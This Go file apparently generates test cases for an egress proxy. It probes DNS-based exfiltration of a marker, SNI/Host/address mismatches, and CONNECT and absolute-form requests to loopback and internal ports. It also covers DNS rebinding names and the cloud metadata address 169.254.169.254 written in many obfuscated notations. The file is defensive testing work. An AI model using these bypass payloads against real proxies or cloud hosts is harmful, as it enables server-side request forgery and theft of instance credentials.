package bypass

import "fmt"

// Names and addresses: what a program may say to the proxy.

// dnsRows: questions for a name that carries something out by being asked.
func dnsRows() (rows []row) {
	for _, f := range families {
		add := func(subject, name string, statements ...string) {
			rows = append(rows, row{subject: subject, name: f.name + " " + name, marker: "{marker}", statements: statements})
		}
		const over = "DNS over UDP, TCP, TLS, HTTPS"
		add(over, "a question over udp", f.udp("sendhexto "+f.dns+" 53 {query}", "recv")...)
		add(over, "a question over udp, connected", f.udp(f.ask(), "sendhex {query}", "recv")...)
		add(over, "a question over tcp", f.tcp(f.ask(), "sendhex {tcpquery}", "recv")...)
		add(over, "a question over tls", talks(f, "853", "-", "{tcpquery}")...)
		add(over, "a question over https", talks(f, "443", "dns.example.net", "{http GET /dns-query?dns={marker} dns.example.net}")...)
		add("DNS to another server", "a question to another server", f.udp("sendhexto "+f.far+" 53 {query}", "recv")...)
		add("DNS to another server", "a question over tcp to another server", f.tcp("connect "+f.far+" 53", "sendhex {tcpquery}", "recv")...)
	}
	return rows
}

// talks runs the client for TLS.
func talks(f family, port, sni, request string) []string {
	addr := f.far
	if f.name == "inet6" {
		addr = "[" + addr + "]"
	}
	return []string{"run " + selfPath, "talk", addr + ":" + port, sni, request}
}

// nameRows: names that disagree, and targets in proxy form.
func nameRows() (rows []row) {
	f := families[0]
	add := func(subject, name string, statements ...string) {
		rows = append(rows, row{subject: subject, name: name, marker: "{marker}", statements: statements})
	}
	const disagree = "SNI, Host and address that disagree"
	get := func(target, host string) string { return "{http GET " + target + " " + host + "}" }
	add(disagree, "Host is another than SNI", talks(f, "443", "api.example.com", get("/allowed/x", "other.example.com"))...)
	add(disagree, "SNI is another than Host", talks(f, "443", "other.example.com", get("/allowed/x", "api.example.com"))...)
	add(disagree, "no SNI", talks(f, "443", "-", get("/allowed/x", "other.example.com"))...)
	add(disagree, "SNI is another than the address", talks(family{far: otherV4}, "443", "other.example.com", get("/allowed/x", "other.example.com"))...)
	add(disagree, "absolute form is another than SNI", talks(f, "443", "api.example.com", get("https://other.example.com/allowed/x", "api.example.com"))...)
	add(disagree, "SNI with an upper-level domain", talks(f, "443", "example.com", get("/allowed/x", "api.example.com"))...)
	plain := func(addr, port, request string) []string {
		return []string{"socket inet stream 6", "connect " + addr + " " + port, "patience 1200", "sendhex " + request, "recv"}
	}
	add(disagree, "Host is another than the address, http", plain(originV4, "80", get("/allowed/x", "other.example.com"))...)
	add(disagree, "an address as Host", plain(originV4, "80", get("/allowed/x", originV4))...)
	const proxy = "CONNECT and absolute form to forbidden targets"
	for _, target := range []string{"other.example.com:443", originV4 + ":443", "127.0.0.1:8123", "localhost:8123", "[::1]:8123", hostV4 + ":8123", "127.1:8123", "0:8123", "2130706433:8123", "169.254.169.254:80", "127.0.0.1:9595", "127.0.0.1:15001"} {
		for _, at := range []string{"3128", "80"} {
			add(proxy, "CONNECT "+target+" at port "+at, plain(originV4, at, "{http CONNECT "+target+" "+target+"}")...)
			add(proxy, "absolute form to "+target+" at port "+at, plain(originV4, at, get("http://"+target+"/allowed/x", target))...)
		}
	}
	add(proxy, "absolute form to a forbidden name, an allowed Host", plain(originV4, "3128", get("http://other.example.com/allowed/x", "api.example.com"))...)
	const rebinding = "DNS rebinding"
	for _, name := range []string{"loopback", "loopback6", "mapped", "unspecified", "host", "metadata", "nat64", "mapped-meta", "private", "both-at-once"} {
		host := name + ".rebind.example"
		add(rebinding, host+" in proxy form", plain(originV4, "3128", get(fmt.Sprintf("http://%s:%d/x", host, relayPort), host))...)
		add(rebinding, host+" by CONNECT", plain(originV4, "3128", fmt.Sprintf("{http CONNECT %s:%d %s}", host, relayPort, host))...)
		add(rebinding, host+" as Host at a foreign address", plain(originV4, "80", get("/x", host))...)
		add(rebinding, host+" as SNI at a foreign address", talks(f, "443", host, get("/x", host))...)
	}
	add(rebinding, "a name at the address itself", plain("127.0.0.1", "8123", get("/x", "loopback.rebind.example:8123"))...)
	return rows
}

// metadataRows: the address at which clouds tell secrets, in every notation.
func metadataRows() (rows []row) {
	const subject = "metadata addresses in every notation"
	add := func(name string, statements ...string) {
		rows = append(rows, row{subject: subject, name: name, marker: "{marker}", statements: statements})
	}
	for _, n := range []string{
		"169.254.169.254", "169.254.169.254.", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "0xa9.0xfe.0xa9.0xfe", "169.254.43518", "169.16689662",
		"[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[::169.254.169.254]", "[64:ff9b::a9fe:a9fe]", "[2002:a9fe:a9fe::]", "[fd00:ec2::254]", "[fe80::a9fe:a9fe]",
		"metadata.rebind.example", "METADATA.rebind.example.", "169%2e254%2e169%2e254", "①⑥⑨.②⑤④.①⑥⑨.②⑤④",
	} {
		request := func(head string) []string {
			return []string{"socket inet stream 6", "connect " + originV4 + " 3128", "patience 1200", "sendhex " + head, "recv"}
		}
		add("absolute form to "+n, request("{http GET http://"+n+":8088/latest "+n+":8088}")...)
		add("CONNECT "+n, request("{http CONNECT "+n+":8088 "+n+":8088}")...)
		add("Host "+n, "socket inet stream 6", "connect "+metadataV4+" 8088", "patience 1200", "sendhex {http GET /latest "+n+":8088}", "recv")
	}
	add("by a mapped address", "socket inet6 stream 6", "connect ::ffff:"+metadataV4+" 8088", "patience 1200", "sendhex {http GET /latest "+metadataV4+"}", "recv")
	rows = append(rows,
		row{subject: subject, name: "tcp that is no http", marker: "{marker}", statements: []string{"socket inet stream 6", "connect " + metadataV4 + " 8088", "send {marker}", "shut", "recv"}},
		row{subject: subject, name: "udp", statements: families[0].udp("sendto " + metadataV4 + " 7443 hello")},
	)
	return rows
}
